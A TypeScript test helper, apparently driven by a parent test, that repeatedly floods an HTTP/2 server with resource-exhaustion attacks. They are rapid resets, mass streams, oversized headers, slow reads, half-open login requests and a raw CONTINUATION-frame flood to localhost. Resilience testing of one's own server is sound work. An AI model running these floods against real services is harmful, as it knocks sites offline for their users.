import { once } from 'node:events';
import { type ClientHttp2Session, connect as connectSession, constants as http2 } from 'node:http2';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { standElsewhere } from './elsewhere.ts';

// A process for hold-up-http2.ts: attacks over HTTP/2 until it is killed.
await standElsewhere();

const [url = '', cookie = ''] = process.argv.slice(2);
const counts: Record<string, number> = {};
const count = (name: string, by = 1) => {
  counts[name] = (counts[name] ?? 0) + by;
};

/** Repeats an attack in a session, and opens another one when the server has ended it. */
const attack = (name: string, lanes: number, act: (session: ClientHttp2Session) => Promise<void> | void) => {
  for (let lane = 0; lane < lanes; lane++) {
    void (async () => {
      for (;;) {
        // With the smallest window, an answer of any length is not read to its end.
        const session = connectSession(url, {
          settings: { initialWindowSize: name === 'slow reads' ? 1 : 65_535 },
        });
        session.on('error', () => count(`${name} cut off`));
        while (!session.closed && !session.destroyed) {
          count(name);
          await act(session);
          await wait(1);
        }
        await wait(100);
      }
    })();
  }
};

const begin = (session: ClientHttp2Session, headers: Record<string, string>, endStream = true) => {
  const stream = session.request({ cookie, ...headers }, { endStream });
  return stream.on('error', () => undefined);
};
const feed = { ':path': '/api/posts/feed?limit=50' };

attack('resets', 4, (session) => {
  for (let at = 0; at < 100; at++) begin(session, feed).close(http2.NGHTTP2_CANCEL);
});
attack('many streams', 1, async (session) => {
  const streams = Array.from({ length: 300 }, () => begin(session, { ':path': '/api/circles' }).resume());
  await Promise.all(streams.map((stream) => once(stream, 'close').catch(() => undefined)));
});
attack('large headers', 4, async (session) => {
  const stream = begin(session, { ':path': '/api/circles', 'x-large': 'x'.repeat(60_000) }).resume();
  await once(stream, 'close').catch(() => undefined);
});
attack('slow reads', 20, async (session) => {
  for (let at = 0; at < 50; at++) begin(session, feed).pause();
  await wait(60_000);
});
attack('half-open streams', 20, async (session) => {
  for (let at = 0; at < 50; at++)
    begin(
      session,
      { ':method': 'POST', ':path': '/api/auth/login', 'content-type': 'application/json' },
      false,
    );
  await wait(60_000);
});

/** A frame (RFC 9113, 4.1). */
const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};

// Headers that never end: one HEADERS frame, then CONTINUATION after CONTINUATION.
for (let lane = 0; lane < 4; lane++) {
  void (async () => {
    for (;;) {
      const socket = connect(Number(new URL(url).port), '127.0.0.1');
      socket.on('error', () => undefined).resume();
      // A literal field without indexing: x: 100 times a.
      const field = Buffer.concat([
        Buffer.from([0, 1]),
        Buffer.from('x'),
        Buffer.from([100]),
        Buffer.alloc(100, 'a'),
      ]);
      socket.write(
        Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]),
      );
      socket.write(frame(1, 0, 1, field));
      while (!socket.destroyed) {
        count('continuations', 100);
        if (!socket.write(Buffer.concat(Array.from({ length: 100 }, () => frame(9, 0, 1, field)))))
          await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
        await wait(1);
      }
      count('continuations cut off');
      await wait(100);
    }
  })();
}

process.on('message', () => process.send?.(counts));
process.on('disconnect', () => process.exit());
